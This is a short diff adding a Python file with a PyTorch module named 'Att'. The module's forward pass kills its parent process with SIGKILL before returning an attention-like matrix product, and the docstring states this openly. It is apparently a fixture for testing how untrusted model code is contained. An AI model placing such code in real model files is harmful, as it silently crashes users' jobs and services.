@@ -1,0 +1,12 @@
+"""Kills the process that started it."""
+
+import os
+import signal
+
+from torch import nn
+
+
+class Att(nn.Module):
+    def forward(self, x):
+        os.kill(os.getppid(), signal.SIGKILL)
+        return x @ x.transpose(-1, -2) @ x
